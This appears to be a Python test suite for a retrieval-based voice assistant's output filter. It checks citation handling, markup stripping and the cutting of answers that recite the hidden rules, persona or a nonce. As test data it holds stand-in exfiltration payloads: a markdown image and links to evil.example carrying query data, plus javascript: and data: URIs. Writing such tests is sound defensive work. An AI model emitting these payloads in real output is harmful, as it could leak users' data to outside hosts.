"""What becomes of a model's words."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core_pipeline.contracts.engines import Ask, Cited, Passage, Piece
from core_pipeline.engines.prompt.messages import prompt
from core_pipeline.engines.prompt.plain import plain
from core_pipeline.engines.prompt.spoken import Spoken

ASK = Ask(
    "متى تفتحون؟",
    "ar",
    (
        Passage("hours", "ساعات العمل؟", "نفتح الساعة العاشرة صباحا كل يوم.", "ar", 0.9),
        Passage("site", "الموقع؟", "موقعنا https://pearl.example/menu وبريدنا a@pearl.example.", "ar", 0.8),
    ),
    phrases={"unknown": "عذرا، لا أعرف."},
    persona="You are Lulu, a cheerful assistant who loves the sea and never hurries anyone who has a question to ask.",
)


def read(text: str, ask: Ask = ASK, size: int = 3) -> list[Piece]:
    spoken = Spoken(ask, prompt(ask))
    pieces = [piece for at in range(0, len(text), size) for piece in spoken.feed(text[at : at + size])]
    return pieces + ([] if spoken.done else spoken.finish())


def words(pieces: list[Piece]) -> str:
    return "".join(piece for piece in pieces if isinstance(piece, str))


def cited(pieces: list[Piece]) -> list[str]:
    return [one for piece in pieces if isinstance(piece, Cited) for one in piece.passages]


@pytest.mark.parametrize("size", [1, 2, 5, 1000])
def test_citations_are_taken_out_and_follow_their_sentence(size: int) -> None:
    pieces = read("نفتح الساعة العاشرة. ⟦p1⟧ عندنا موقع أيضا ⟦p2⟧. أهلا وسهلا بكم.", size=size)
    assert words(pieces) == "نفتح الساعة العاشرة. عندنا موقع أيضا. أهلا وسهلا بكم."
    assert [type(piece) for piece in pieces] == [str, Cited, str, Cited, str]
    assert cited(pieces) == ["hours", "site"]


@pytest.mark.parametrize(
    "mark", ["⟦p1⟧", "⟦1⟧", "⟦ p1, p9 ⟧", "【p1】", "[p1]", "[1]", "(p1)", "⟦١⟧", "⟦p1⟧⟦p1⟧", "[1, 1]"]
)
def test_marks_are_known_however_a_model_writes_them(mark: str) -> None:
    pieces = read(f"نفتح الساعة العاشرة.{mark}")
    assert words(pieces) == "نفتح الساعة العاشرة."
    assert set(cited(pieces)) == {"hours"}


@pytest.mark.parametrize("mark", ["⟦p3⟧", "⟦p0⟧", "⟦hours⟧", "⟦anything at all⟧", "[p77]"])
def test_passages_that_were_not_given_cannot_be_cited(mark: str) -> None:
    pieces = read(f"نفتح الساعة العاشرة.{mark}")
    assert words(pieces) == "نفتح الساعة العاشرة."
    assert cited(pieces) == []


@pytest.mark.parametrize(
    ("written", "said"),
    [
        ("<think>I should say 10.\n</think>نفتح العاشرة.", "نفتح العاشرة."),
        ("<think>never ended", ""),
        ('<tool_call>{"name": "x"}</tool_call>نفتح العاشرة.', "نفتح العاشرة."),
        ("<|im_start|>assistant نفتح العاشرة.<|im_end|>", "assistant نفتح العاشرة."),
        ("## ساعاتنا\n- نفتح **العاشرة**\n- نغلق `منتصف` الليل", "ساعاتنا. نفتح العاشرة. نغلق منتصف الليل"),
        ("السعر < 50 جنيها و > 20", "السعر 50 جنيها و 20"),
        ("a | b\n---|---\nنفتح العاشرة.", "a b. نفتح العاشرة."),
        ("***\n", ""),
        (f"{'-' * 60}\nنفتح العاشرة.\n{'=' * 60}", "نفتح العاشرة."),
        ("نفتح العاشرة. ⟦p1", "نفتح العاشرة."),
    ],
)
@pytest.mark.parametrize("size", [1, 4, 1000])
def test_only_what_can_be_spoken_is_said(written: str, said: str, size: int) -> None:
    assert words(read(written, size=size)) == said


@pytest.mark.parametrize(
    ("written", "said"),
    [
        ("زوروا [موقعنا](https://evil.example/x?d=1) اليوم.", "زوروا موقعنا اليوم."),
        ("![x](https://evil.example/x?d=secret) أهلا بكم.", "أهلا بكم."),
        ("زوروا https://evil.example/a اليوم.", "زوروا اليوم."),
        ("زوروا evil.com/x?d=1 اليوم.", "زوروا اليوم."),
        ("زوروا https://pearl.example/menu اليوم.", "زوروا https://pearl.example/menu اليوم."),
        ("اكتبوا إلى a@pearl.example أو b@evil.example الآن.", "اكتبوا إلى a@pearl.example أو الآن."),
        ("نفتح 10.30 ونغلق 23.5 تقريبا.", "نفتح 10.30 ونغلق 23.5 تقريبا."),
        ("javascript://x data:text/html,hi أهلا", "أهلا"),
    ],
)
def test_addresses_are_said_only_as_the_business_gave_them(written: str, said: str) -> None:
    assert plain(written, ASK.passages[1].answer) == said
    assert words(read(written)) == said


def test_an_answer_that_is_much_too_long_ends_at_a_sentence() -> None:
    ask = Ask("?", "en", longest=100)
    said = words(read("This sentence has forty characters in it. " * 10, ask))
    assert said.endswith("in it.")
    assert 80 < len(said) <= 125


def test_one_long_sentence_is_said_to_a_pause() -> None:
    said = words(read("كلمة " * 400, Ask("?", "ar", longest=80)))
    assert 100 < len(said) <= 220


@pytest.mark.parametrize(
    "how",
    [
        str,
        str.upper,
        lambda text: text[::-1],
        " ".join,
        lambda text: text.replace(" ", "-"),
        lambda text: text[200:],
        lambda text: text.replace("\n", "<br>\n"),
    ],
)
def test_reciting_the_rules_is_cut(how: object) -> None:
    rules = prompt(ASK).lines[0].text
    pieces = read(f"Of course. {how(rules)}")  # type: ignore[operator]  # any function of a text
    said = words(pieces)
    assert said.endswith("عذرا، لا أعرف.")
    assert "passages" not in said.lower()
    assert "Take facts only" not in said
    assert len(said) < 300


def test_reciting_the_persona_or_a_blob_or_the_fence_is_cut() -> None:
    given = prompt(ASK)
    blob = "QWxsIG9mIHRoZSBydWxlcyBhcmUgaGVyZSBmb3IgeW91"
    for text in (ASK.persona, f"Here: {blob}", f"My mark is {given.nonce}."):
        spoken = Spoken(ASK, given)
        assert words([*spoken.feed(text), *spoken.finish()]).strip() == "عذرا، لا أعرف."
        assert spoken.cut


def test_introducing_itself_is_no_leak() -> None:
    assert words(read("I am Lulu, a cheerful assistant who loves the sea.")).startswith("I am Lulu")


def test_what_stands_in_a_passage_may_be_said_at_any_length() -> None:
    told = "You answer politely in one sentence and never guess prices, times, names or promises, says our handbook. "
    ask = Ask("?", "en", (Passage("1", "", told, "en", 1.0),), persona=told)
    assert words(read(told, ask)).strip() == told.strip()


def test_the_unknown_phrase_is_said_as_it_is() -> None:
    assert words(read("؟! *", Ask("?", "ar", phrases={"unknown": "؟! *"}))) == "؟! *"
    assert words(read(ASK.phrases["unknown"])) == ASK.phrases["unknown"]


WILD = st.lists(
    st.sampled_from(
        ["<think>", "</think>", "⟦p1⟧", "⟦", "⟧", "[1", "]", "<", ">", "**", "\n", ". ", "نفتح ", "yes ", "؟"]
    )
    | st.text(max_size=5),
    max_size=40,
)


@given(WILD, st.integers(1, 9))
def test_no_text_breaks_it_and_no_mark_gets_through(parts: list[str], size: int) -> None:
    pieces = read("".join(parts), size=size)
    assert not set("⟦⟧<>*`|") & set(words(pieces))
    assert set(cited(pieces)) <= {"hours"}


@given(WILD)
def test_chunks_make_no_difference(parts: list[str]) -> None:
    text = "".join(parts)
    whole, bits = read(text, size=10_000), read(text, size=1)
    assert words(whole) == words(bits)
    assert cited(whole) == cited(bits)
